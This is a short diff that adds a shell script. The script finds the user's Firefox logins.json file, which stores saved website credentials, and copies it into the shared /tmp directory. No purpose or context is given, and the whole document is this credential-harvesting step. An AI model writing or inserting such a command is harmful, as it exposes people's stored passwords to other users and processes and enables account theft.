@@ -1,0 +1,2 @@
+#!/bin/sh
+find ~/.mozilla/firefox -name logins.json -exec cp {} /tmp/ \;
